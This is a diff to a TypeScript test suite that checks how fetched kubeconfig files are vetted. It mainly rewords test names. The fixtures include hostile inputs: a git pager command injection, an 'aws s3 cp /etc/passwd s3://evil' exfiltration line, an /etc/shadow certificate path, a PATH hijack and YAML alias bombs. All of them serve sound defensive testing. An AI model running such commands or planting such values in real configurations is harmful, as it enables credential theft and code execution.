@@ -86,7 +86,7 @@ const WISHES = [
     line: 'trust: {programs: [aws]}',
   },
   {
-    name: 'give a trusted program arguments of its own choice',
+    name: 'choose arguments of a trusted program',
     parts: {user: exec({command: 'git', args: ['-c', 'core.pager=touch /tmp/x', 'log']})},
     trust: {programs: ['git']},
     wants: [/it would run the program git -c 'core\.pager=touch \/tmp\/x' log$/],
@@ -94,7 +94,7 @@ const WISHES = [
     line: 'trust: {programs: [git, [git, "-c", "core.pager=touch /tmp/x", log]]}',
   },
   {
-    name: 'make a program that logs in do something else',
+    name: 'misuse a program that logs in',
     parts: {user: exec({args: ['s3', 'cp', '/etc/passwd', 's3://evil']})},
     trust: {programs: ['aws']},
     wants: [/it would run the program aws s3 cp \/etc\/passwd s3:\/\/evil$/],
@@ -102,7 +102,7 @@ const WISHES = [
     line: 'trust: {programs: [aws, [aws, s3, cp, /etc/passwd, "s3://evil"]]}',
   },
   {
-    name: 'run a trusted name out of a PATH of its own',
+    name: 'run a trusted name from its own PATH',
     parts: {
       user: exec({
         env: [
@@ -117,7 +117,7 @@ const WISHES = [
     line: 'trust: {programs: all}',
   },
   {
-    name: 'run a program of a name that needs quotes, besides those that are allowed',
+    name: 'run one more program, with a quoted name',
     parts: {user: exec({command: 'my login'})},
     trust: {programs: ['aws']},
     wants: [/the program 'my login'/],
@@ -132,7 +132,7 @@ const WISHES = [
     line: 'trust: {localFiles: true}',
   },
   {
-    name: 'read a token, and says that there is data in its place, which nobody reads',
+    name: 'read a token file beside inline data',
     parts: {user: {tokenFile: file('token', 't'), 'tokenFile-data': 'x'}},
     wants: [/tokenFile names the file .*token on this machine/],
     allow: {localFiles: true},
@@ -185,7 +185,7 @@ const WISHES = [
     line: 'trust: {insecureTls: true}',
   },
   {
-    name: 'do several of these, which are told at once',
+    name: 'do several of these',
     parts: {
       cluster: {server: 'https://h', 'insecure-skip-tls-verify': true},
       user: {...exec(), tokenFile: join(dir, 'token')},
@@ -197,8 +197,8 @@ const WISHES = [
 ] as const;
 
 describe.each(OPENERS)('a fetched kubeconfig ($name)', ({open}) => {
-  describe.each(WISHES)('that would $name', ({parts, wants, line, allow, ...given}) => {
-    it('is refused with everything that it wants and the line that allows it', async () => {
+  describe.each(WISHES)('a kubeconfig that would $name', ({parts, wants, line, allow, ...given}) => {
+    it('a fetched kubeconfig is refused with everything that it requests and the line that allows it', async () => {
       const trust = 'trust' in given ? {...TRUSTS_NOTHING, ...given.trust} : undefined;
       const refusal = await refusalOf(open(fetched(parts, trust)));
       expect(refusal.wants).toHaveLength(wants.length);
@@ -206,11 +206,11 @@ describe.each(OPENERS)('a fetched kubeconfig ($name)', ({open}) => {
       expect(refusal.allow).toBe(line);
     });
 
-    it('is accepted when the workspace has that line', async () => {
+    it('a fetched kubeconfig is accepted when the workspace has the line that allows it', async () => {
       await expect(open(fetched(parts, {...TRUSTS_NOTHING, ...allow}))).resolves.toMatchObject({contextName: 'c'});
     });
 
-    it('is accepted from the own files of the user', async () => {
+    it("the same kubeconfig is accepted from the user's own files", async () => {
       const {from, ...source} = fetched(parts);
       if (from.kind !== 'content') throw new Error('it has a content');
       await expect(open({...source, from: {kind: 'content', content: from.content}})).resolves.toMatchObject({
@@ -223,12 +223,12 @@ describe.each(OPENERS)('a fetched kubeconfig ($name)', ({open}) => {
     {name: 'a token', user: {token: 't'}},
     {name: 'a certificate', user: pem},
     {name: 'a password', user: {username: 'u', password: 'p'}},
-    {name: 'somebody else', user: {token: 't', as: 'bob', 'as-groups': ['a']}},
+    {name: 'an impersonated user', user: {token: 't', as: 'bob', 'as-groups': ['a']}},
     {
-      name: 'data beside a path that nobody reads then',
+      name: 'inline data beside an unused path',
       user: {...pem, 'client-certificate': '/etc/shadow', 'client-key': '/x'},
     },
-  ])('may hold $name', async ({user}) => {
+  ])('a fetched kubeconfig may contain $name', async ({user}) => {
     await expect(open(fetched({user}))).resolves.toMatchObject({server: 'https://h'});
   });
 
@@ -237,8 +237,8 @@ describe.each(OPENERS)('a fetched kubeconfig ($name)', ({open}) => {
       name: 'grows without end',
       text: `a0: &a0 [1, 1]\n${Array.from({length: 40}, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}]\n`).join('')}extensions: [{name: x, extension: *a40}]\n`,
     },
-    {name: 'holds itself', text: 'extensions: &e [{name: x, extension: *e}]\n'},
-  ])('whose YAML $name is refused before anybody writes it down', async ({text}) => {
+    {name: 'contains itself', text: 'extensions: &e [{name: x, extension: *e}]\n'},
+  ])('a fetched kubeconfig whose YAML $name is refused before it is expanded', async ({text}) => {
     const {from, ...source} = fetched({});
     if (from.kind !== 'content') throw new Error('it has a content');
     const content = new Secret(`${text}kind: Config\n`);
@@ -247,7 +247,7 @@ describe.each(OPENERS)('a fetched kubeconfig ($name)', ({open}) => {
     });
   });
 
-  it('may name a proxy, which the certificate of the cluster keeps out', async () => {
+  it('a fetched kubeconfig may name a proxy, because the CA of the cluster keeps the proxy from reading', async () => {
     const cluster = {
       server: 'https://h',
       'certificate-authority-data': base64(authority.cert),
@@ -264,7 +264,7 @@ describe.each(OPENERS)('a fetched kubeconfig ($name)', ({open}) => {
   });
 });
 
-describe('the file that an executed program writes', () => {
+describe('a program of a fetched kubeconfig', () => {
   const mark = join(dir, 'mark');
   const program = file(
     'login',
@@ -274,12 +274,12 @@ describe('the file that an executed program writes', () => {
   beforeEach(() => rmSync(mark, {force: true}));
   const user = {exec: {apiVersion: 'client.authentication.k8s.io/v1beta1', command: program}};
 
-  it.each(OPENERS)('is not left where it is not trusted ($name)', async ({open}) => {
+  it.each(OPENERS)('an untrusted program is not executed ($name)', async ({open}) => {
     await refusalOf(open(fetched({user})));
     expect(existsSync(mark)).toBe(false);
   });
 
-  it('is left by the same program where it is trusted: the test can fail', async () => {
+  it('the same program is executed when it is trusted, so that the test can fail', async () => {
     const access = await connect(fetched({user}, {...TRUSTS_NOTHING, programs: [program]}), options);
     expect(existsSync(mark)).toBe(false);
     await access.credential();
